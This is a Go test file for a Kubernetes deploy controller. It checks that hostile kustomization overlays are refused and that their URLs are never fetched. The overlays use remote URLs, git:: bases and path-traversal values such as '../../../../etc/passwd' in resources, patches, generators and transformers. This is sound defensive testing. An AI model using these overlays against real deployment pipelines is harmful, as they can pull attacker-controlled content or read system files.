package deploy_test

import (
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"

	catalystv1alpha1 "github.com/slipway-dev/slipway/api/catalyst/v1alpha1"
	"github.com/slipway-dev/slipway/internal/controller/catalyst/deploy"
	"github.com/slipway-dev/slipway/internal/gitsource/gittest"
)

// urlTrap is an HTTP server a hostile kustomization names: it counts the requests it gets and,
// when made to hold, holds each until release (or the test's end), as a URL that never answers
// would.
type urlTrap struct {
	*httptest.Server
	mu       sync.Mutex
	requests int
	release  chan struct{}
	once     sync.Once
}

func newURLTrap(t *testing.T, hold bool) *urlTrap {
	u := &urlTrap{release: make(chan struct{})}
	if !hold {
		u.open()
	}
	u.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		u.mu.Lock()
		u.requests++
		u.mu.Unlock()
		select {
		case <-u.release:
		case <-r.Context().Done():
		}
		_, _ = w.Write([]byte("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: fetched}\n"))
	}))
	t.Cleanup(u.Server.Close)
	t.Cleanup(u.open)
	return u
}

func (u *urlTrap) open() { u.once.Do(func() { close(u.release) }) }

func (u *urlTrap) count() int {
	u.mu.Lock()
	defer u.mu.Unlock()
	return u.requests
}

// checkKustomizeRefused asserts that err is a stalled RenderFailed kustomize error saying each
// of want, and that nothing was applied.
func (f *fixture) checkKustomizeRefused(err error, want ...string) {
	f.t.Helper()
	if !errors.Is(err, deploy.ErrKustomizeBuild) || deploy.Reason(err) != catalystv1alpha1.RenderFailedReason || !deploy.Stalled(err) {
		f.t.Errorf("got %v (reason %s, stalled %v), want a stalled RenderFailed kustomize error", err, deploy.Reason(err), deploy.Stalled(err))
	}
	for _, w := range want {
		if err != nil && !strings.Contains(err.Error(), w) {
			f.t.Errorf("message %q does not say %q", err, w)
		}
	}
	var cms corev1.ConfigMapList
	if n := f.count(&cms, nil); n > 1 { // kube-root-ca.crt
		f.t.Errorf("%d ConfigMaps in the namespace: something was applied", n)
	}
}

// hostileKustomizations are an attacker's overlays, one per field kustomize loads a file,
// a directory or a URL from, each naming the trap at u (or a path outside the repository),
// under deploy/atk/<name>; want is what the refusal must name.
func hostileKustomizations(u string) []struct {
	name  string
	files gittest.Files
	want  []string
} {
	k := func(body string) gittest.Files {
		return gittest.Files{"kustomization.yaml": []byte("resources: [../../kustomize/base]\n" + body)}
	}
	inline := func(field, config string) gittest.Files {
		return gittest.Files{"kustomization.yaml": []byte("resources: [../../kustomize/base]\n" + field + ":\n- |\n" + indent(config, "  "))}
	}
	cmGen := "apiVersion: builtin\nkind: ConfigMapGenerator\nmetadata: {name: stolen}\nfiles: [" + u + "/metadata]\n"
	patchTr := "apiVersion: builtin\nkind: PatchTransformer\nmetadata: {name: fetch}\npath: " + u + "/patch.yaml\n"
	kk := "deploy/atk/"
	return []struct {
		name  string
		files gittest.Files
		want  []string
	}{
		{"resources", gittest.Files{"kustomization.yaml": []byte("resources: [../../kustomize/base, " + u + "/cm.yaml]\n")},
			[]string{kk + "resources/kustomization.yaml: resources[1] names \"" + u + "/cm.yaml\", a URL or a remote repository"}},
		{"remote-base", gittest.Files{"kustomization.yaml": []byte("resources: [../../kustomize/base, 'git::" + u + "/org/repo//base?ref=main']\n")},
			[]string{kk + "remote-base/kustomization.yaml: resources[1] names \"git::" + u + "/org/repo//base?ref=main\""}},
		{"bases", gittest.Files{"kustomization.yaml": []byte("bases: [" + u + "/base]\n")}, []string{"bases[0] names \"" + u + "/base\""}},
		{"components", k("components: [" + u + "/component]\n"), []string{"components[0] names"}},
		{"crds", k("crds: [" + u + "/crd.yaml]\n"), []string{"crds[0] names"}},
		{"configurations", k("configurations: [" + u + "/config.yaml]\n"), []string{"configurations[0] names"}},
		{"openapi", k("openapi: {path: " + u + "/schema.json}\n"), []string{"openapi.path names"}},
		{"patches", k("patches: [{path: " + u + "/patch.yaml}]\n"), []string{"patches[0].path names"}},
		{"patchesJson6902", k("patchesJson6902: [{target: {kind: Deployment, name: app}, path: " + u + "/patch.yaml}]\n"), []string{"patchesJson6902[0].path names"}},
		{"patchesStrategicMerge", k("patchesStrategicMerge: [" + u + "/patch.yaml]\n"), []string{"patchesStrategicMerge[0] names"}},
		{"replacements", k("replacements: [{path: " + u + "/replacement.yaml}]\n"), []string{"replacements[0].path names"}},
		{"configMapGenerator-files", k("configMapGenerator: [{name: stolen, files: [metadata=" + u + "/metadata]}]\n"), []string{"configMapGenerator[0].files[0] names \"" + u + "/metadata\""}},
		{"secretGenerator-envs", k("secretGenerator: [{name: stolen, envs: [" + u + "/env]}]\n"), []string{"secretGenerator[0].envs[0] names"}},
		{"configMapGenerator-outside", k("configMapGenerator: [{name: stolen, files: [../../../../etc/passwd]}]\n"), []string{"configMapGenerator[0].files[0] names \"../../../../etc/passwd\", outside the repository"}},
		{"inline-generator", inline("generators", cmGen), []string{"generators[0] (inline): ConfigMapGenerator stolen: files[0] names \"" + u + "/metadata\""}},
		{"inline-transformer", inline("transformers", patchTr), []string{"transformers[0] (inline): PatchTransformer fetch: path names"}},
		{"inline-validator", inline("validators", "apiVersion: builtin\nkind: ReplacementTransformer\nmetadata: {name: r}\nreplacements: [{path: "+u+"/r.yaml}]\n"),
			[]string{"validators[0] (inline): ReplacementTransformer r: replacements[0].path names"}},
		{"generator-directory", gittest.Files{
			"kustomization.yaml":     []byte("resources: [../../kustomize/base]\ngenerators: [gen]\n"),
			"gen/kustomization.yaml": []byte("resources: [config.yaml]\n"),
			"gen/config.yaml":        []byte(cmGen),
		}, []string{kk + "generator-directory/gen/config.yaml: ConfigMapGenerator stolen: files[0] names \"" + u + "/metadata\""}},
		{"transformer-directory-outside", gittest.Files{
			"kustomization.yaml":    []byte("resources: [../../kustomize/base]\ntransformers: [tr]\n"),
			"tr/kustomization.yaml": []byte("resources: [patch.yaml]\n"),
			"tr/patch.yaml":         []byte("apiVersion: builtin\nkind: PatchTransformer\nmetadata: {name: up}\npath: ../../../../../etc/passwd\n"),
		}, []string{kk + "transformer-directory-outside/tr/patch.yaml: PatchTransformer up: path names \"../../../../../etc/passwd\", outside the repository"}},
		{"transformer-file", gittest.Files{
			"kustomization.yaml": []byte("resources: [../../kustomize/base]\ntransformers: [fetch.yaml]\n"),
			"fetch.yaml":         []byte(patchTr),
		}, []string{kk + "transformer-file/fetch.yaml: PatchTransformer fetch: path names \"" + u + "/patch.yaml\""}},
		{"helmCharts", k("helmCharts: [{name: app, repo: " + u + "/charts, version: 1.0.0}]\n"), []string{"helmCharts: kustomize does not inflate Helm charts"}},
	}
}

func indent(s, by string) string {
	return by + strings.ReplaceAll(strings.TrimSuffix(s, "\n"), "\n", "\n"+by) + "\n"
}

// TestKustomize_HostileFieldsAreRefusedAndNothingIsFetched: an attacker's kustomization per
// field that can name a URL, a remote repository or a path outside the repository (resources and
// a git:: remote base, bases, components, crds, configurations, openapi, every patch field,
// replacements, the files and envs of generators, inline generator, transformer and validator
// configurations, a generator directory and a transformer directory whose configurations fetch
// or leave the repository, a transformer file, helmCharts) fails with RenderFailed naming the
// file and the field, and the server the URLs point at gets no request at all.
func TestKustomize_HostileFieldsAreRefusedAndNothingIsFetched(t *testing.T) {
	f := newFixture(t)
	trap := newURLTrap(t, false)
	attacks := hostileKustomizations(trap.URL)
	files := gittest.Kustomization("deploy/kustomize")
	for _, a := range attacks {
		for name, data := range a.files {
			files["deploy/atk/"+a.name+"/"+name] = data
		}
	}
	src := f.commit(files)
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			f.t = t
			_, err := f.engine.Deploy(f.ctx, f.request(kustomizeType, src, "deploy/atk/"+a.name))
			f.checkKustomizeRefused(err, append(a.want, "a render reads the repository only")...)
		})
	}
	if n := trap.count(); n != 0 {
		t.Errorf("the attacker's server got %d requests, want none", n)
	}
}

// TestKustomize_AComputedPluginConfigurationFetchesNothing: a transformer directory whose
// kustomization patches a harmless ConfigMap into a PatchTransformer with a URL path: no walk of
// the files sees the URL, and the renderer refuses to fetch it all the same.
func TestKustomize_AComputedPluginConfigurationFetchesNothing(t *testing.T) {
	f := newFixture(t)
	trap := newURLTrap(t, false)
	src := f.commit(gittest.Merge(gittest.Kustomization("deploy/kustomize"), gittest.Files{
		"deploy/atk/kustomization.yaml":    []byte("resources: [../kustomize/base]\ntransformers: [tr]\n"),
		"deploy/atk/tr/kustomization.yaml": []byte("resources: [cm.yaml]\npatches:\n- target: {kind: ConfigMap, name: innocent}\n  patch: |-\n    - {op: replace, path: /apiVersion, value: builtin}\n    - {op: replace, path: /kind, value: PatchTransformer}\n    - {op: add, path: /path, value: '" + trap.URL + "/patch.yaml'}\n"),
		"deploy/atk/tr/cm.yaml":            []byte("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: innocent}\n"),
	}))
	_, err := f.engine.Deploy(f.ctx, f.request(kustomizeType, src, "deploy/atk"))
	f.checkKustomizeRefused(err, trap.URL+"/patch.yaml", "a render makes no network request")
	if n := trap.count(); n != 0 {
		t.Errorf("the attacker's server got %d requests, want none", n)
	}
}

// TestKustomize_AURLThatNeverAnswersStallsNothing: while an attacker's kustomization names a URL
// that never answers (an inline generator's files), another environment's kustomize deploy
// completes. Today's operator fetched the URL under a lock every kustomize build takes: the
// trap releases its request after a while so that such a deploy ends, and the other deploy must
// have completed while no request had come.
func TestKustomize_AURLThatNeverAnswersStallsNothing(t *testing.T) {
	f := newFixture(t)
	trap := newURLTrap(t, true)
	go func() {
		time.Sleep(20 * time.Second)
		trap.open()
	}()
	src := f.commit(gittest.Merge(gittest.Kustomization("deploy/kustomize"), gittest.Files{
		"deploy/atk/kustomization.yaml": []byte("resources: [../kustomize/base]\ngenerators:\n- |\n  apiVersion: builtin\n  kind: ConfigMapGenerator\n  metadata: {name: stolen}\n  files: [" + trap.URL + "/metadata]\n"),
	}))
	attack := make(chan error, 1)
	go func() {
		_, err := f.engine.Deploy(f.ctx, f.request(kustomizeType, src, "deploy/atk"))
		attack <- err
	}()
	// Today's operator is inside the lock, at the trap, once the trap counts a request.
	var err error
	for done := false; !done; {
		select {
		case err = <-attack:
			done = true
		case <-time.After(50 * time.Millisecond):
			done = trap.count() > 0
		}
	}
	other := f.request(kustomizeType, src, "deploy/kustomize/overlays/preview")
	other.Release = "pr-2"
	f.deploy(other)
	if n := trap.count(); n != 0 {
		t.Errorf("the other deploy completed after the attacker's server got %d requests, want none", n)
	}
	if err == nil {
		err = <-attack
	}
	if !errors.Is(err, deploy.ErrKustomizeBuild) || !strings.Contains(err.Error(), "generators[0] (inline)") {
		t.Errorf("the attacker's deploy: %v, want refused at generators[0]", err)
	}
}
